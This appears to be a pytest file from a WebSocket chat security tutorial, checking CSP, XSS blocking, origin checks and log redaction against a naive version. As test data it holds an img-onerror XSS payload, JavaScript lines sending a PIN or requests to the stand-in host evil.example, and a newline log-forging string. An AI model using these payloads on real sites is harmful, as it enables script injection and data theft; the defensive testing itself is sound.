    some = limits.Limits(connections=2, rate=5, burst=20, total=3)
    with some.seat("ann"), some.seat("ann"), some.seat("ben") as last:
        assert last
        with some.seat("ben") as other:
            assert other is None
        with some.seat("cleo") as other:
            assert other is None
        assert "cleo" not in some.users
    with some.seat("cleo") as free:
        assert free
    assert some.taken == 0


# Markup


MARKUP = "<img src=x onerror=\"document.title = 'it ran'\">"


async def forbid_markup(page: Page, step: str) -> None:
    """A message with markup in it reaches a page that takes messages for markup."""
    module = conversation.load(f"{HERE}/{step}")
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    async with serve_app(module.api) as host:
        with contextlib.suppress(AttributeError):  # the list of step8_page names the reader's port
            module.check_origin.__globals__["ALLOWED"].add(f"http://{host}")
        async with page.expect_websocket() as socket:
            await page.goto(f"http://{host}/")
        await socket.value
        async with websockets_connect(f"ws://{host}/chat", proxy=None) as mallory:
            await mallory.send("hello")
            await mallory.send(MARKUP)
            await expect(page.locator("#log img")).to_have_count(1)
        await expect(page.locator("#log img")).to_have_js_property("complete", True)
        if await page.title() == "it ran":
            raise Fails("markup was run")
    assert any("Content Security Policy" in complaint for complaint in complaints), complaints


@pytest.mark.browser
async def test_markup_does_not_run_where_the_policy_forbids_it(page):
    (row,) = [row for row in OWASP if row["The cheat sheet asks"].startswith("Let no markup")]
    await forbid_markup(page, "step8_page")
    with pytest.raises(Fails) as failure:
        await forbid_markup(page, "wrong_markup")
    assert str(failure.value) == row["In the naive room"]


@pytest.mark.browser
async def test_the_policy_forbids_other_servers_and_frames(page):
    module = conversation.load(f"{HERE}/step8_page")
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    forbidden = """act => new Promise(done => {
      addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
      new Function(act)();
    })"""
    async with serve_app(module.api) as host:
        for act, directive in (
            ("fetch('http://evil.example/').catch(() => {})", "connect-src"),
            ("new WebSocket('ws://evil.example/')", "connect-src"),
            ("new Image().src = 'http://evil.example/?pin=4711'", "img-src"),
            ("document.body.innerHTML = '<form action=http://evil.example>';"
             "document.forms[0].submit()", "form-action"),
        ):  # fmt: skip
            await page.goto(f"http://{host}/")
            assert await page.evaluate(forbidden, act) == directive
        async with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
            await page.evaluate(
                "() => document.body.append(Object.assign(document.createElement('iframe'),"
                " {src: '/'}))"
            )


@pytest.mark.browser
async def test_a_browser_takes_only_some_signs_for_a_subprotocol(page):
    offers = """names => names.filter(name => {
      try { new WebSocket("ws://127.0.0.1:9/", [name]); return true; }
      catch (error) { if (error.name !== "SyntaxError") throw error; return false; }
    })"""
    right = ["token.s3cret-of-ann", "token.aZ09-_", "a+b"]
    wrong = ["token.a/b", "token.a b", "token.a=", "token.ü", ""]
    assert await page.evaluate(offers, right + wrong) == right


# The log


async def log_who_comes(room: Guests) -> None:
    async with await room.come("ann", origin=OURS) as ann:
        await ann.send("hi")
        await hear(ann)
        if room.naive:
            await room.server.says(r"\[accepted\]")
            if "ann" not in room.server.log:
                raise Fails("the log names nobody")
        for _ in range(BURST):
            await ann.send("again")
        assert (await end_of(ann))[0] == 4429
    for origin, path in (None, "/chat"), ("https://evil.example", await room.ticket("ann")):
        with pytest.raises(InvalidStatus, match="403"):
            await room.server.connect(path, origin=origin)
    where = r"user 'ann' from 127\.0\.0\.1, page 'https://chat\.example'"
    for line in (
        f"chat: came, {where}",
        f"chat: too many messages, {where}",
        f"chat: left, {where}",
        r"chat: refused, no ticket, user None from 127\.0\.0\.1, page None",
        "refused a page of 'https://evil.example'",
    ):
        await room.server.says(line)
        assert len(re.findall(line, room.server.log)) == 1


async def log_no_secret(room: Guests) -> None:
    path = "/chat?ticket=abcdef" if room.naive else await room.ticket("ann")
    async with room.server.connect(path) as ann:
        await ann.send("my pin is 4711")
        await hear(ann)
    await room.server.says(r"\[accepted\]")
    log = room.server.log.partition("Uvicorn running on")[2]
    if path in log:
        raise Fails("what stands in the address stands in the log")
    assert "/chat?ticket=…" in log
    secrets = [path.partition("=")[2], room.cookies["ann"]["Cookie"].partition("=")[2]]
    for secret in [*secrets, "s3cret", "4711"]:
        assert secret not in log


async def on_a_socket(check: Any, item: str) -> None:
    (row,) = [row for row in OWASP if row["The cheat sheet asks"].startswith(item)]
    async with serve_step(ROOM) as server:
        await check(Guests(server, ROOM))
    async with serve_step(NAIVE) as server:
        with pytest.raises(Fails) as failure:
            await check(Guests(server, NAIVE))
    assert str(failure.value) == row["In the naive room"]


@pytest.mark.real
async def test_the_log_says_who_came_who_left_and_who_was_refused():
    await on_a_socket(log_who_comes, "Log who came")


@pytest.mark.real
async def test_the_log_holds_no_secret_and_no_message():
    await on_a_socket(log_no_secret, "Log no secret")


def test_a_name_can_not_forge_a_line_of_the_log(caplog):
    audit = importlib.import_module(f"tutorial_code.{HERE}.audit")
    stranger = SimpleNamespace(headers={"Origin": "x\nERROR: all is lost"}, client=None)
    with caplog.at_level(logging.INFO, "uvicorn.error"):
        audit.note("came", stranger, "eve\nchat: came, user 'ann'")
    assert [record.getMessage().count("\n") for record in caplog.records] == [0]


def test_both_logs_of_the_server_hide_secrets():
    audit = conversation.load(f"{HERE}/audit")
    for name in "uvicorn.error", "uvicorn.access":
        assert audit.hide_secrets in logging.getLogger(name).filters


@pytest.mark.parametrize(
    ("args", "hidden"),
    [
        (("/chat?ticket=abc",), ("/chat?ticket=…",)),
        (("/chat?last=7&ticket=abc&x=1", 403), ("/chat?last=7&ticket=…&x=1", 403)),
        (("/tickets?x=1",), ("/tickets?x=1",)),
        ((), ()),
        (({"path": "/chat?ticket=abc"},), {"path": "/chat?ticket=abc"}),  # no line of the server's
    ],
)
def test_the_filter_takes_the_secret_out_of_an_address_and_nothing_else(args, hidden):
    audit = importlib.import_module(f"tutorial_code.{HERE}.audit")
    record = logging.LogRecord("uvicorn.access", logging.INFO, "", 1, "%s" * len(args), args, None)
    assert audit.hide_secrets(record)
    assert record.args == hidden


# The questions before the exercises


async def test_a_list_that_is_a_text_lets_in_whatever_is_a_part_of_it():
    async with guests(f"{HERE}/predict_one_origin") as room:
        for part in "https://chat.example", "https://chat.exam", "chat", "":
            async with room.server.connect("/ws", additional_headers={"Origin": part}) as ws:
                assert await hear(ws) == "You are in."
        with pytest.raises(InvalidStatus, match="403"):
            await room.server.connect("/ws", origin="https://evil.example")
